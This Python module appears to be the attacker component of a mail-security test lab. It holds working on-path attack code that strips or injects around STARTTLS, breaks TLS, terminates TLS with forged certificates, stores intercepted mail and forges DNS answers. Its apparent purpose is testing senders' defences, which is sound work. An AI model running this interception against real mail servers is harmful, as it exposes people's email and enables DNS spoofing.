"""The attacker on the path, a process on the host through which all of the sender's traffic passes.

    python -m mailward.lab.attacker FOLDER ADDRESS      # of the name server

Traffic that the network diverts ends at his sockets: SMTP sessions, which he passes on to the real receiver and alters,
and DNS questions, which he passes on or answers himself. He reads his orders as lines of JSON on standard input
(`Orders`), writes what he does to `events`, one line of JSON each, and keeps every mail that he could read in `mail`.
"""

import contextlib
import itertools
import socket
import ssl
import sys
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import dns.exception
import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rrset
import msgspec

from mailward.lab.scenarios import Grip
from mailward.net import clock

IP_TRANSPARENT = 19  # <linux/in.h>; Python has no name for it
_SECONDS = 60.0
_DNS_SECONDS = 2.0
_QUESTIONS = 32
_MAX_LINE = 64 * 1024
_INJECTED = b"250-mx.injected.test\r\n250 ENHANCEDSTATUSCODES\r\n250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n"
_HANDSHAKE_FAILURE = bytes.fromhex("15 0303 0002 02 28")  # RFC 8446 §6: a fatal alert
_OF_CERTIFICATE = {
    Grip.SELF_SIGNED: "that he has signed himself",
    Grip.OTHER_NAME: "for a name of his own, from a trusted authority",
    Grip.MISISSUED: "for the receiver's name, from a trusted authority",
}
_ENDS_TLS = (Grip.SELF_SIGNED, Grip.OTHER_NAME, Grip.MISISSUED)


class Hold(msgspec.Struct, frozen=True):
    """What to do with SMTP sessions to one address."""

    grip: str
    relay_to: str
    """The real receiver."""
    own_name: str = ""
    """What he calls himself; empty: what the receiver calls itself."""
    pem: str = ""
    """The file of his certificate and key."""


class Forgery(msgspec.Struct, frozen=True):
    """What to answer to one question."""

    name: str
    rdtype: str
    records: tuple[str, ...] = ()
    """As in a zone file, after the type."""
    rcode: str = "NOERROR"


class Orders(msgspec.Struct, frozen=True):
    holds: dict[str, Hold] = {}
    forgeries: tuple[Forgery, ...] = ()


class Event(msgspec.Struct, frozen=True):
    at: float
    """Seconds since 1970."""
    about: str
    """The address that the sender connected to, or the name that it asked for."""
    text: str


class Log:
    def __init__(self, folder: Path) -> None:
        self._file = (folder / "events").open("ab")
        self._mail = folder / "mail"
        self._mail.mkdir()
        self._lock = threading.Lock()
        self._numbers = itertools.count(1)

    def write(self, about: str, text: str) -> None:
        line = msgspec.json.encode(Event(clock.now().timestamp(), about, text)) + b"\n"
        with self._lock:
            self._file.write(line)
            self._file.flush()

    def close(self) -> None:
        self._file.close()

    def keep(self, about: str, mail: bytes) -> None:
        with self._lock:
            number = next(self._numbers)
        (self._mail / f"{about}-{number}.eml").write_bytes(mail)
        self.write(about, f"reads the whole mail: {len(mail)} bytes")


class Peer:
    """One side of a session."""

    def __init__(self, link: socket.socket) -> None:
        self._link = link
        self._rest = b""
        link.settimeout(_SECONDS)

    def line(self) -> bytes:
        """With its end; empty where the other side has gone."""
        while b"\n" not in self._rest and len(self._rest) < _MAX_LINE:
            received = self._link.recv(65_536)
            if not received:
                return b""
            self._rest += received
        line, _, self._rest = self._rest.partition(b"\n")
        return line + b"\n"

    def reply(self) -> list[bytes]:
        """Of a server: all of its lines."""
        lines = [self.line()]
        while lines[-1][3:4] == b"-":
            lines.append(self.line())
        return lines

    def send(self, *lines: bytes) -> None:
        self._link.sendall(b"".join(lines))

    def some(self) -> bytes:
        """Whatever comes next; empty where the other side has gone."""
        if self._rest:
            rest, self._rest = self._rest, b""
            return rest
        return self._link.recv(65_536)

    def join(self, other: "Peer") -> None:
        """Pass everything on, both ways, until one has gone."""
        back = threading.Thread(target=other._pass_to, args=(self,), daemon=True)
        back.start()
        self._pass_to(other)
        back.join()

    def _pass_to(self, other: "Peer") -> None:
        with contextlib.suppress(OSError):
            while data := self.some():
                other.send(data)
        with contextlib.suppress(OSError):
            other._link.shutdown(socket.SHUT_WR)

    def serve_tls(self, context: ssl.SSLContext) -> None:
        self._link = context.wrap_socket(self._link, server_side=True)
        self._rest = b""

    def begin_tls(self) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE  # the attacker does not care whom he talks to
        self._link = context.wrap_socket(self._link)
        self._rest = b""

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._link.close()


class Session:
    """Between a sender, who believes to talk to the receiver, and the receiver."""

    def __init__(self, about: str, hold: Hold, client: Peer, server: Peer, log: Log) -> None:
        self._about, self._hold, self._client, self._server, self._log = about, hold, client, server, log
        self._grip = Grip(hold.grip)
        self._is_secret = False

    def run(self) -> None:
        self._client.send(*self._named(self._server.reply()))
        while line := self._client.line():
            verb = line.strip().upper().partition(b" ")[0]
            if verb == b"EHLO":
                self._greet(line)
            elif verb == b"STARTTLS" and self._grip is Grip.INJECT:
                self._inject(line)
                return
            elif verb == b"STARTTLS" and self._grip is Grip.BREAK:
                self._break_off()
                return
            elif verb == b"STARTTLS":
                self._starttls()
            elif verb == b"DATA":
                self._data(line)
            else:
                self._server.send(line)
                self._client.send(*self._server.reply())
            if verb == b"QUIT":
                return

    def _greet(self, line: bytes) -> None:
        lines = self._ask(line)
        if not lines[0].startswith(b"250"):
            self._client.send(*lines)
            return
        offers = any(_offers_tls(each) for each in lines)
        if offers and self._grip in _ENDS_TLS:
            self._ask(b"STARTTLS\r\n")
            self._server.begin_tls()
            lines = self._ask(line)
        kept = [each for each in lines if not _offers_tls(each)]
        if self._grip is Grip.STRIP and offers:
            self._log.write(self._about, "deletes STARTTLS from the receiver's capabilities")
        elif not self._is_secret:
            kept.insert(1, b"250-STARTTLS\r\n")
        kept = [b"250-" + each[4:] for each in kept[:-1]] + [b"250 " + kept[-1][4:]]
        self._client.send(*self._named(kept))

    def _starttls(self) -> None:
        if self._grip not in _ENDS_TLS:
            self._log.write(self._about, "answers STARTTLS with an error")
            self._client.send(b"454 4.7.0 TLS not available due to local problem\r\n")
            return
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self._hold.pem)
        self._client.send(b"220 2.0.0 Ready to start TLS\r\n")
        self._client.serve_tls(context)
        self._is_secret = True
        self._log.write(self._about, f"ends TLS himself, with a certificate {_OF_CERTIFICATE[self._grip]}")

    def _inject(self, line: bytes) -> None:
        """What follows belongs to the two others; he has put in what he could."""
        answer = self._ask(line)
        self._client.send(*answer, _INJECTED)
        self._log.write(
            self._about, "sends replies of his own behind the answer to STARTTLS, and lets TLS pass"
        )
        self._client.join(self._server)

    def _break_off(self) -> None:
        self._client.send(b"220 2.0.0 Ready to start TLS\r\n")
        self._client.some()
        self._client.send(_HANDSHAKE_FAILURE)
        self._log.write(self._about, "breaks the TLS handshake off")

    def _data(self, line: bytes) -> None:
        self._server.send(line)
        answer = self._server.reply()
        self._client.send(*answer)
        if not answer[0].startswith(b"354"):
            return
        mail = []
        while (line := self._client.line()) not in (b".\r\n", b""):
            mail.append(line)
        self._log.keep(self._about, b"".join(mail))
        self._server.send(*mail, line)
        self._client.send(*self._server.reply())

    def _ask(self, line: bytes) -> list[bytes]:
        self._server.send(line)
        return self._server.reply()

    def _named(self, lines: list[bytes]) -> list[bytes]:
        """As the host that he says he is."""
        if not self._hold.own_name:
            return lines
        code, _, rest = lines[0].rstrip(b"\r\n").partition(lines[0][3:4])
        words = rest.split(b" ")
        first = code + lines[0][3:4] + b" ".join([self._hold.own_name.encode(), *words[1:]]) + b"\r\n"
        return [first, *lines[1:]]


class Attacker:
    def __init__(self, folder: Path, name_server: str) -> None:
        self._log = Log(folder)
        self._name_server = name_server
        self._orders = Orders()

    def listen(self) -> None:
        mail, questions = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
        mail.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        for each in (mail, questions):
            each.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        mail.bind(("", 25))
        mail.listen(256)
        questions.bind((self._name_server, 53))
        _spawn(lambda: self._take_sessions(mail))
        _spawn(lambda: self._take_questions(questions))

    def obey(self, line: str) -> None:
        self._orders = msgspec.json.decode(line, type=Orders)

    def _take_sessions(self, listener: socket.socket) -> None:
        while True:
            link, _peer = listener.accept()
            _spawn(lambda link=link: self._session(link))  # type: ignore[misc]  # bound now, not later

    def _session(self, link: socket.socket) -> None:
        about = str(link.getsockname()[0])
        client = Peer(link)
        hold = self._orders.holds.get(about)
        server: Peer | None = None
        try:
            if hold is None:
                return
            self._log.write(about, f"has the connection, and opens one to {hold.relay_to}")
            server = Peer(socket.create_connection((hold.relay_to, 25), timeout=_SECONDS))
            Session(about, hold, client, server, self._log).run()
        except OSError as error:  # ssl.SSLError is one
            # an end without a word is how Postfix takes leave of a certificate that it does not like
            reason = error.reason if isinstance(error, ssl.SSLError) else error.strerror
            if isinstance(error, ssl.SSLEOFError):
                reason = "the other side hangs up"
            self._log.write(about, f"loses the session: {reason or error}")
        finally:
            client.close()
            if server is not None:
                server.close()

    def _take_questions(self, questions: socket.socket) -> None:
        # side by side: one that is lost must not keep the others waiting
        with ThreadPoolExecutor(_QUESTIONS) as pool:
            while True:
                pool.submit(self._take_question, questions, *questions.recvfrom(4096))

    def _take_question(self, questions: socket.socket, wire: bytes, peer: tuple[str, int]) -> None:
        with contextlib.suppress(dns.exception.DNSException, OSError):
            questions.sendto(self._answer(wire), peer)

    def _answer(self, wire: bytes) -> bytes:
        """Raises DNSException and OSError."""
        query = dns.message.from_wire(wire)
        question = query.question[0]
        name, rdtype = question.name.to_text(omit_final_dot=True).lower(), question.rdtype.name
        for forgery in self._orders.forgeries:
            if (forgery.name, forgery.rdtype) == (name, rdtype):
                self._log.write(name, f"forges the answer to {name} {rdtype}: {_say(forgery)}")
                return forge(query, forgery)
        with socket.socket(type=socket.SOCK_DGRAM) as upstream:
            upstream.settimeout(_DNS_SECONDS)
            upstream.connect((self._name_server, 53))
            upstream.send(wire)
            return upstream.recv(65_535)


def _offers_tls(line: bytes) -> bool:
    return line[4:].strip().upper() == b"STARTTLS"  # the whole word: a host name may hold it


def _say(forgery: Forgery) -> str:
    return ", ".join(forgery.records) or forgery.rcode


def forge(query: dns.message.Message, forgery: Forgery) -> bytes:
    response = dns.message.make_response(query)
    response.flags |= dns.flags.AA
    response.set_rcode(dns.rcode.from_text(forgery.rcode))
    question = query.question[0]
    if forgery.records:
        response.answer.append(
            dns.rrset.from_text_list(question.name, 0, "IN", forgery.rdtype, list(forgery.records))
        )
    elif forgery.rcode != "SERVFAIL":  # RFC 2308 §3: whoever says no names the zone
        soa = "ns.test. hostmaster.test. 1 60 30 3600 0"
        zone = question.name.parent() if forgery.rdtype == "TXT" else dns.name.from_text("test.")
        response.authority.append(dns.rrset.from_text(zone, 0, "IN", "SOA", soa))
    return response.to_wire()


def _spawn(work: Callable[[], None]) -> None:
    threading.Thread(target=work, daemon=True).start()


def main(folder: str, name_server: str) -> None:
    attacker = Attacker(Path(folder), name_server)
    attacker.listen()
    sys.stdout.write("listens\n")
    sys.stdout.flush()
    for line in sys.stdin:
        attacker.obey(line)
        sys.stdout.write("obeys\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main(*sys.argv[1:3])
